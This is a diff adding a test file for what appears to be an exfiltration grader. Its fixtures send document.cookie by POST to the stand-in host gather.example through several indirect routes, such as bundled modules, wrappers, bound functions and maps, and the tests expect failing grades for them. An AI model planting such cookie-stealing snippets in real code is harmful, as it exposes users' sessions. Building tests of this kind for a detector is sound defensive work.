@@ -1,0 +1,120 @@
+import { describe, expect, it } from 'vitest';
+import { graded } from '../testing/graded.ts';
+
+/*
+ * Ways that data takes inside of libraries that a bundler put into a script: stores, wrappers of functions, cells that
+ * know who reads them. Each is a program whose only way out is one request.
+ */
+
+const SEND = "const send = (x) => fetch('https://gather.example/c', { method: 'POST', body: JSON.stringify(x) });";
+
+const WAYS: readonly (readonly [name: string, program: (data: string) => string])[] = [
+  [
+    'what a module of a bundle makes, which is the module itself',
+    (data) => `
+      var made = (all, module) => () => (module || all[Object.keys(all)[0]]((module = { exports: {} }).exports, module), module.exports);
+      var wait_js = made({ 'wait.js'(exports, module) {
+        module.exports = function wait(run, ms) {
+          var last;
+          function after() { var given = last; last = void 0; return run.apply(null, given); }
+          function waiting() { last = arguments; setTimeout(after, ms); }
+          return waiting;
+        };
+      } });
+      var wait = wait_js();
+      var later = wait((x) => send(x), 50);
+      later(${data});`,
+  ],
+  [
+    'a cell that a function fills, which has it as a parameter',
+    (data) => `
+      function fill(cell) { const found = cell.read(); cell.kept = found; }
+      class Cell {
+        constructor(read) { this.read = read; }
+        get value() { fill(this); return this.kept; }
+      }
+      const cell = new Cell(() => 'c' + ${data});
+      setInterval(() => send(cell.value), 1000);`,
+  ],
+  [
+    'a function in whose place another one may stand',
+    (data) => `
+      function watch(read, tell) {
+        if (!tell) tell = () => {};
+        tell(read());
+      }
+      watch(() => ${data}, (x) => send(x));`,
+  ],
+  [
+    'a way to call that is put into a copy',
+    (data) => `
+      const extend = Object.assign;
+      function watch(read, tell, { call }) { const args = [read()]; call ? call(tell, args) : tell(...args); }
+      function watched(read, tell, options) {
+        const own = extend({}, options);
+        own.call = (fn, args) => run(fn, args);
+        watch(read, tell, own);
+      }
+      function run(fn, args) { return args ? fn(...args) : fn(); }
+      watched(() => ${data}, (x) => send(x), {});`,
+  ],
+  [
+    'a reader that is bound to what it reads',
+    (data) => `
+      function read() { return this.kept; }
+      function put(cell, x) { cell.kept = x; }
+      function cellOf(first) { const cell = { kept: first }; return [read.bind(cell), (x) => put(cell, x)]; }
+      const [get, set] = cellOf('');
+      set(${data});
+      send(get());`,
+  ],
+  [
+    'a function that stands in a table under a key',
+    (data) => `
+      const jobs = new Map();
+      function keep(x) { jobs.set({}, { run: () => x }); }
+      keep(${data});
+      for (const job of jobs.values()) send(job.run());`,
+  ],
+  [
+    'an object that a function has as its this',
+    (data) => `
+      function out() { send(this.text); }
+      const note = {};
+      note.text = ${data};
+      out.call(note);`,
+  ],
+];
+
+describe('data goes on by', () => {
+  it.each(WAYS)('%s', async (_, program) => {
+    expect(await graded({ content: SEND + program('document.cookie') })).toBe('F');
+    expect(await graded({ content: SEND + program("'dark'") })).toMatch(/^A/);
+  });
+});
+
+/** The same ways with the data in another place than in what is sent. */
+const APART: readonly (readonly [name: string, program: string])[] = [
+  [
+    'a function that only holds it, and is handed over with what is sent',
+    'const options = { make: () => document.cookie, at: 1 }; send({ options });',
+  ],
+  [
+    'another property of what a function has as its this',
+    'function out() { send(this.title); } const note = { title: 1 }; note.text = document.cookie; out.call(note);',
+  ],
+  [
+    'another function of a pair',
+    `function cellOf(first) { const cell = { kept: first }; return [function () { return this.at; }.bind({ at: 1 }), (x) => { cell.kept = x; }]; }
+      const [get, set] = cellOf(''); set(document.cookie); send(get());`,
+  ],
+  [
+    'itself, in an object that holds itself',
+    `class Cell { constructor() { this.self = this; this.text = document.cookie; this.at = 1; } out() { send(this.self.at); } }
+      new Cell().out();`,
+  ],
+];
+
+it.each(APART)('is not sent by %s', async (_, program) => {
+  expect(await graded({ content: SEND + program })).toMatch(/^A/);
+});
